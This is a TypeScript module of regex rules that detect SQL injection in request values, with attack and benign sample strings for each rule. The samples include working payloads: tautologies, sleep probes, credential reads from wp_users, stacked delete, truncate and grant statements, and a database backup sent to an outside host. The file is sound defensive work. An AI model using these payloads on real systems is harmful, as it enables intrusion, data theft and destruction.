import { pattern, type Rule, type Span } from '../rule/rule.ts'
import { CHAR } from '../value/features.ts'
import type { Reading } from '../value/reading.ts'
import { isOperandParameter } from '../value/value-setting.ts'
import { WORD } from '../value/words.ts'

const QUOTED_NUMBER = /^(?:-?\d{1,12}\s?(?:['"`]{1,2}\)?|\\)|['"])$/

/** More names of one object, of pages and shops. */
const OBJECT = /^(?:cat|category|pid|cid|gid|tid|aid|nid|product|news|article|post|item|topic|user|order|p)$/

/** Codes of records: a mark of feet or inches stands in none of them. */
const RECORD =
  /^(?:parent|dept|department|user|emp|item|product|goods|material|cust|customer|org|company|bank|area|region|city|country|order|serial)_?code$/

/** `1'`, where one number or name belongs: what finds out whether a query breaks. */
function findQuoteProbe(reading: Reading): Span | undefined {
  const { lower } = reading
  if (!QUOTED_NUMBER.test(lower)) return undefined
  const { place, name } = reading
  if (place === 'name' || place === 'file-name') return undefined
  return isOperandParameter(name) || OBJECT.test(name) || (RECORD.test(name) && !lower.includes(' '))
    ? { start: 0, end: lower.length }
    : undefined
}

/** Words of a query, and in how many ways one of them stands inside itself. */
const NESTED = ['union', 'select', 'from', 'where'].flatMap(word =>
  Array.from(word.slice(1), (_, i) => `${word.slice(0, i + 1)}${word}${word.slice(i + 1)}`),
)

/** Whole values that mean something to a query and nothing to anybody else. */
export const sqlFormRules: readonly Rule[] = [
  pattern(
    'sqli/number-compared',
    /^\s{0,2}-?\(?\s{0,2}\(\s{0,2}(\d{1,10})\s{0,2}(?:=|<=>|r?like)\s{0,2}\1\s{0,2}\)|^\s{0,2}\(?case\s{1,4}when\s{1,4}\(?(\d{1,10})\s{0,2}=\s{0,2}\2\b|^\s{0,2}(?:[\w.]{1,40}\s{0,2},\s{0,2})?if\s{0,2}\(\s{0,2}\d{1,10}\s{0,2}(?:=|<>|!=|<=|>=|<|>)\s{0,2}\d{1,10}\s{0,2},[^(),]{1,60},[^(),]{1,60}\)\s{0,2}(?:,|--|#|desc\b|asc\b|$)/,
    {
      score: 5,
      quotable: true,
      atStart: true,
      chars: CHAR.equals | CHAR.paren,
      attacks: [
        '(5958=5958)*1',
        '(1=1)',
        '(6 RLIKE 6)*1',
        '(CASE WHEN 8265=8265 THEN 8265 ELSE NULL END)',
        'if(1=1,id,name)',
        'id, IF(2<1,1,2) desc',
      ],
      benign: ['(1=2)', '(a=a)', '2026=2026', '=IF(1=1,"a","b")', 'if (1=1) return', 'if(a=1,b,c)'],
    },
  ),
  // A difference that is nothing, to see whether it was worked out.
  pattern('sqli/difference', /\b(?:and|or)\s{1,4}(\d{2,9})\s{0,2}-\s{0,2}\1\s{0,2}=\s{0,2}0\b/, {
    score: 5,
    quotable: true,
    chars: CHAR.equals,
    attacks: ['poll_default and 31337-31337=0', '1 or 42 - 42 = 0'],
    benign: ['12 and 5-4=1', 'x and 31337-31338=0'],
  }),
  // The rest of a query that names its columns from a parameter, and a comment that ends it.
  pattern(
    'sqli/columns-named',
    /^\s{0,2}[\w.,()@* ]{1,200}?\sfrom\s{1,4}(?:\w{1,64}\.)?\w{0,40}(?:_\w{1,40}|users?|admins?|members?|accounts?)\b[^#;\n]{0,160}?(?:;\s{0,4})?(?:--(?:[\s-]|$)|#\s{0,2}$)/,
    {
      score: 5,
      quotable: true,
      atStart: true,
      chars: CHAR.dashes | CHAR.hash,
      places: ['query', 'form', 'cookie', 'path'],
      attacks: [
        'id from wp_users order by id asc limit 1 ; --',
        'concat_ws(42,user_login,user_pass) from wp_users where id = 1 ; --',
        'user_pass from wp_users -- -',
        'password from users#',
      ],
      benign: [
        'a letter from users',
        'refund from customer #12',
        'notes from users -> admins',
        'mail from ann_b@example.org #3',
      ],
    },
  ),
  // A word spelled by the codes of its letters; 13 and 10, which queries join to texts, are line ends.
  pattern(
    'sqli/letter-codes',
    /(?:\bcha?r\s{0,2}\(\s{0,2}(?:[4-9]\d|1[01]\d|12[0-6])\s{0,2}\)\s{0,2}(?:\+|\|\|)\s{0,2}){2}cha?r\s{0,2}\(\s{0,2}\d/,
    {
      score: 6,
      quotable: true,
      chars: CHAR.paren,
      attacks: [
        '123 IN (CHAR(113)+CHAR(120)+CHAR(112))-- ',
        'chr(113)||chr(98)||chr(120)',
        'x,CHAR(65) + CHAR(66) + CHAR(67)',
      ],
      benign: ["'a' + CHAR(13) + CHAR(10) + CHAR(9)", 'chr(65)||chr(10)||chr(66)', 'char(20) + char(30)'],
    },
  ),
  pattern('sqli/quote-number', /^\s{0,2}['"]\s?[-+*/^%&|]\s?\d{1,9}\s?[-+*/^%&|]\s?['"]\s{0,2}$/, {
    score: 5,
    atStart: true,
    chars: CHAR.apostrophe | CHAR.quote,
    attacks: ["'-0-'", "'+1+'", '"*1*"'],
    benign: ["'5'", "'-'a'-'", "'5-6'"],
  }),
  // Out of a text, one more operand, and a comment that takes the rest away. Written without spaces: with
  // them people quote options (`"-v --verbose"`) and dashes, and behind a slash, places of pages.
  pattern(
    'sqli/quote-operand',
    /^\s{0,2}['"](?:(?:\|\||[-+*^%&|])[\w.]{1,24}--|(?:\|\||[-+^|])[\w.]{1,24}#)/,
    {
      score: 5,
      atStart: true,
      chars: CHAR.apostrophe | CHAR.quote,
      attacks: ["'+joxy--+z", "'-0-- -", '"|a#', "'||x--"],
      benign: ['"/users#list"', '"- ann -- chair"', '"-v --verbose"', '"-p # port"', "'-5 - 6'", '"*note#1"'],
    },
  ),
  pattern(
    'sqli/chosen-string',
    /^\s{0,2}(?:elt|make_set)\s{0,2}\(\s{0,2}\(?(\d{1,10})\s{0,2}=\s{0,2}\d{1,10}\s{0,2}\)?\s{0,2},/,
    {
      score: 5,
      quotable: true,
      atStart: true,
      chars: CHAR.equals,
      attacks: ['MAKE_SET(1189=1189,8770)', 'ELT(1=1,5)'],
      benign: ['elt(1, 2)', 'make_set(a, b)'],
    },
  ),
  // A call that only waits, and the rest of the query commented out.
  pattern(
    'sqli/wait-commented',
    /^\s{0,2}(?:pg_)?sleep\s{0,2}\(\s{0,2}(?:\d{1,3}|__time__)\s{0,2}\)\s{0,2}(?:#|--)/,
    {
      score: 5,
      quotable: true,
      atStart: true,
      chars: CHAR.hash | CHAR.dashes,
      attacks: ['sleep(5)#', 'pg_sleep(5)--'],
      benign: ['sleep(5)', 'sleep (well) # note'],
    },
  ),
  pattern(
    'sqli/alike',
    /\b(?:or|and)\s{1,4}\(?\s{0,2}(['"]?)(\d{1,10})\1\s{1,4}(?:r?like|regexp|between)\s{1,4}(['"]?)\2(?!\w)/,
    {
      score: 5,
      quotable: true,
      words: WORD.sqlLogic,
      attacks: ['1 or 1 like 1', "x' or '1' like '1", 'a and 7 rlike 7', '1 or 6 between 6 and 6'],
      benign: ['1 or 2 like 3', 'and 1 like it', 'or 12 like 123'],
    },
  ),
  pattern(
    'sqli/ordered-by-call',
    /\b(?:order|group)\s{1,4}by\s{1,4}\(?\s{0,2}(?:sleep|benchmark|pg_sleep|extractvalue|updatexml|dbms_pipe\.\w{1,20}|dbms_lock\.sleep)\s{0,2}\(/,
    {
      score: 5,
      quotable: true,
      chars: CHAR.paren,
      words: WORD.sqlVerb,
      attacks: ['1 order by sleep(5)', "x') group by (benchmark(1,md5(1)))"],
      benign: ['order by rand()', 'sleep (order by mail)', 'group by (month)'],
    },
  ),
  pattern(
    'sqli/whole-clause',
    /^\s{0,2}print\s{1,4}@@\w{1,24}\s{0,2}$|^[^\n]{0,16}?\bcreate\s{1,4}user\s{1,4}[\w'"@%.]{1,40}\s{1,4}identified\s{1,4}by\s{1,4}["']/,
    {
      score: 5,
      bare: true,
      quotable: true,
      atStart: true,
      words: WORD.sqlVerb,
      attacks: ['PRINT @@version', "create user name identified by 'pass123'"],
      benign: ['print @@', 'create user identified by a card'],
    },
  ),
  // The columns of a query, its table, and the rest commented out or another clause.
  pattern(
    'sqli/columns',
    /^\s{0,2}\*\s{1,4}from\s{1,4}[\w.`"]{1,60}(?:--|\s{0,4}(?:;|#|\/\*|--\s|union\b|limit\s{1,2}\d|where\s{1,4}[\w.`]{1,40}\s{0,2}(?:[=<>]|like\b|in\b|is\b)))/,
    {
      score: 5,
      quotable: true,
      atStart: true,
      chars: CHAR.star,
      attacks: ['* from wp_users-- -', '* FROM users WHERE id=1', '* from t;'],
      benign: ['* from home', '* from the shop -- nice', '* from where I live'],
    },
  ),
  // What a filter that takes a word out once makes of it is the word.
  pattern('sqli/nested-word', new RegExp(`\\b(?:${NESTED.join('|')})\\b`), {
    score: 5,
    quotable: true,
    words: WORD.sqlVerb,
    attacks: ['-1 UNIunionON SELselectECT 1,2', "x' uniunionon all", '1 frfromom users', 'a whwhereere 1'],
    benign: ['union union', 'selectselect', 'a reunion'],
  }),
  // SQL Server hashes what nobody stores as such, to prove that it runs what was sent.
  pattern(
    'sqli/hash-call',
    /\bhashbytes\s{0,4}\(\s{0,4}['"](?:md[245]|sha1?|sha2_\d{3})['"]\s{0,4},|\bfn_(?:varbintohexstr|sqlvarbasetostr)\s{0,4}\(/,
    {
      score: 5,
      quotable: true,
      words: WORD.sqlCall,
      attacks: [
        "LOWER(CONVERT(VARCHAR(32),HashBytes('MD5','1'),2))",
        "1+sys.fn_sqlvarbasetostr(HashBytes('MD5','1'))",
        "substring(sys.fn_varbintohexstr(hashbytes('sha1',1)),3,32)",
      ],
      benign: ['hash bytes with md5', 'HashBytes (MD5)'],
    },
  ),
  // SQL Server writes the backup to any path, also on a host of the sender.
  pattern(
    'sqli/backup',
    /\bbackup\s{1,4}(?:database|log)\s{1,4}[\w.[\]"']{1,64}\s{1,4}to\s{1,4}(?:disks?|tape|url)\s{0,2}=\s{0,2}n?['"]/,
    {
      score: 5,
      quotable: true,
      chars: CHAR.apostrophe | CHAR.quote,
      attacks: [
        "BACKUP database master to disks='\\\\203.0.113.9\\a\\b.dat'",
        "1;backup log x to disk = N'c:\\a'",
      ],
      benign: ['backup database to disk', 'Backup log of x to disk'],
    },
  ),
  // A group that every row is in.
  pattern(
    'sqli/having',
    /\bhaving\s{1,4}['"(]{0,2}(\d{1,9})['")]{0,2}\s{0,4}(?:=|<=>|like)\s{0,4}['"(]{0,2}\1(?!\w)/,
    {
      score: 5,
      quotable: true,
      words: WORD.sqlVerb,
      attacks: ['group by userid having 1=1--', "x' having 7 = '7'", 'x having (2)=(2)'],
      benign: ['having 1 = 2', 'having 10 of 10', 'having 1=12'],
    },
  ),
  pattern(
    'sqli/between',
    /^[\w'")]{0,16}\s{0,4}(?:or|and)\s{1,4}['"(]{0,2}\d{1,9}['"]?\s{1,4}(?:not\s{1,4})?between\s{1,4}['"]?\d{1,9}['"]?\s{1,4}and\s{1,4}['"]?\d{1,9}['")]{0,2}\s{0,4}(?:--|#|$)/,
    {
      score: 5,
      quotable: true,
      atStart: true,
      words: WORD.sqlLogic,
      attacks: [' or 2 between 1 and 3', "1' and 5 not between 6 and 7#", 'x) or 2 between 1 and 3--'],
      benign: ['the 1 or 2 between 1 and 3', '1 or 2 between 1 and 3 pm', 'or between 1 and 3'],
    },
  ),
  // Behind a bracket or a statement that was ended, a string that equals itself.
  pattern(
    'sqli/closed-equality',
    /^[\w%'"]{0,12}[;)]{1,2}\s{0,4}(?:or|and)\s{1,4}\(?\s{0,2}(['"])([\w ]{0,16})\1\s{0,2}(?:=|like)\s{0,2}\1\2(?:\1|\s{0,2}$)/,
    {
      score: 6,
      quotable: true,
      atStart: true,
      chars: CHAR.apostrophe | CHAR.quote,
      words: WORD.sqlLogic,
      attacks: [") or ('x'='x", "; or '1'='1'", '5) and ("a"="a")', "x') or ('' = '"],
      benign: [") or ('x'='y", "(a) or 'b' = 'c'", "; or 'so'"],
    },
  ),
  // One string behind another is one string, which a condition takes for true or false.
  pattern(
    'sqli/strings-joined',
    /^\w{0,16}(['"])\s{1,4}(?:or|and)\s{1,4}\1[\w ]{0,8}\1\s{1,4}\1[\w ]{0,8}\1?\s{0,2}$/,
    {
      score: 5,
      atStart: true,
      chars: CHAR.apostrophe | CHAR.quote,
      words: WORD.sqlLogic,
      attacks: ["' or '' '", '" or "" "', "x' and 'a' 'b"],
      benign: ['"yes" or "no" "maybe"', "'a' or 'b'", 'x" or "y'],
    },
  ),
  // A statement that is run on a condition which holds.
  pattern(
    'sqli/if-statement',
    /\bif\s{0,2}\(?\s{0,2}(\d{1,9})\s{0,2}=\s{0,2}\1\s{0,2}\)?\s{1,4}(?:select|waitfor|drop|exec|print|begin|insert|delete|update)\s{1,4}[\w(@'"*]/,
    {
      score: 5,
      quotable: true,
      chars: CHAR.equals,
      words: WORD.sqlVerb,
      attacks: [
        'IF(7423=7423) SELECT 7423 ELSE DROP FUNCTION xcjl--',
        'if 1=1 select 1 else drop function x--',
      ],
      benign: ['if (1=2) select', 'if 1=1, select one', 'if (a=a) print x'],
    },
  ),
  // A value of one word, and a whole statement behind it that changes something.
  pattern(
    'sqli/stacked-change',
    /^(?!(?:begin|commit|rollback|end|go|declare|start|transaction)\b)[\w.@'"()%-]{0,24};\s{0,4}(?:insert\s{1,4}(?:ignore\s{1,4})?into\s{1,4}[\w.`"[\]]{1,60}\s{0,2}(?:\([\w\s,.`"[\]]{1,200}\)\s{0,4})?(?:values?\s{0,2}\(|select\b)|replace\s{1,4}into\s{1,4}[\w.`"[\]]{1,60}\s{0,2}(?:\(|values?\b|select\b)|update\s{1,4}[\w.`"[\]]{1,60}\s{1,4}set\s{1,4}[\w.`"[\]]{1,60}\s{0,2}=|delete\s{1,4}from\s{1,4}[\w.`"[\]]{1,60}\s{1,4}where\s{1,4}[\w.`"'(]{1,60}\s{0,2}(?:[=<>!]|like\b|in\b|between\b|is\b)|create\s{1,4}(?:table|database|function|procedure|trigger|view)\s{1,4}[\w.`"'[\]]{1,60}\s{0,2}(?:\(|as\s{1,4}(?:select\b|\$)|returns\b|;|--)|alter\s{1,4}(?:table|database)\s{1,4}[\w.`"'[\]]{1,60}\s{1,4}(?:add|drop|modify|rename|set|owner)\s{1,4}[\w`"[(]|(?:create|alter)\s{1,4}(?:user|login|role)\s{1,4}[\w.`"'[\]@%]{1,60}\s{1,4}(?:identified\s{1,4}(?:by|with)|with\s{1,4}(?:password|superuser|login))\b|truncate\s{1,4}table\s{1,4}[\w.`"[\]]{1,60}\s{0,2}(?:;|--|#|$))/,
    {
      score: 5,
      bare: true,
      quotable: true,
      atStart: true,
      chars: CHAR.semicolon,
      words: WORD.sqlVerb,
      attacks: [
        '1;update users set a=1',
        "x';insert into a(b) values(1)--",
        '1;create table a(b int)',
        '1;truncate table a',
        '-1;delete from a where 1=1',
      ],
      benign: [
        'begin;update users set a=1',
        'tea; update your profile and set a password',
        'select 1; insert into a values(1)',
        'notes;create table of contents',
        'b;alter user guide with pictures',
        'a;delete from list where possible',
      ],
    },
  ),
  // Rights and users, out of a string.
  pattern(
    'sqli/rights',
    /^[^\n]{0,24}?['";]\s{0,4}(?:grant\s{1,4}(?:all(?:\s{1,4}privileges)?|connect|resource|dba|select|insert|update|delete|create|drop|execute|super|file|usage)\s{1,4}(?:on\s{1,4}[\w.*`"]{1,60}\s{1,4})?to\s{1,4}['"\w]{1,40}(?:@['"\w.%]{1,40})?\s{0,4}(?:;|--|#|$)|create\s{1,4}user\s{1,4}[\w'"@%.]{1,40}\s{1,4}identified\s{1,4}by\s{1,4}\w)/,
    {
      score: 5,
      quotable: true,
      atStart: true,
      chars: CHAR.apostrophe | CHAR.quote | CHAR.semicolon,
      words: WORD.sqlVerb,
      attacks: [
        "' grant connect to name; grant resource to name; --",
        "'create user name identified by pass123 temporary tablespace temp",
        "' grant connect to name--",
        '" grant dba to x--',
        '1; grant all on *.* to x--',
      ],
      benign: [
        "it's a grant to connect",
        "'; grant access to Ann",
        "'create user ann, identified by a card'",
      ],
    },
  ),
  // A setting of the server behind a statement that is ended: where it logs, whom it lets in.
  pattern(
    'sqli/server-setting',
    /^[^\n;]{0,24};(?:\s|\/\*[^*]{0,24}\*\/){0,3}set(?:\s|\/\*[^*]{0,24}\*\/){1,3}(?:global|persist|@@global\.)(?:\s|\/\*[^*]{0,24}\*\/){0,3}[a-z]{1,24}_\w{1,40}\s{0,2}=/,
    {
      score: 5,
      quotable: true,
      atStart: true,
      chars: CHAR.semicolon,
      words: WORD.shell,
      attacks: [
        '111;set/**/global/**/general_log=on;',
        "1';SET GLOBAL general_log_file='/x'-- ",
        '1; set @@global.log_bin_trust=1',
      ],
      benign: [
        'a; set global state',
        'css; set a global x = 1',
        'set global x = 1',
        'redux; set global store = a()',
      ],
    },
  ),
  {
    id: 'sqli/quote-probe',
    family: 'sqli',
    score: 5,
    quotable: false,
    atStart: true,
    chars: CHAR.apostrophe | CHAR.quote | CHAR.backtick | CHAR.backslash,
    words: 0,
    needs: [QUOTED_NUMBER],
    find: findQuoteProbe,
    // By the name of the parameter: the cases are in `test/exploits.test.ts`.
    attacks: [],
    benign: ["1'", '12"', "5'6"],
  },
]
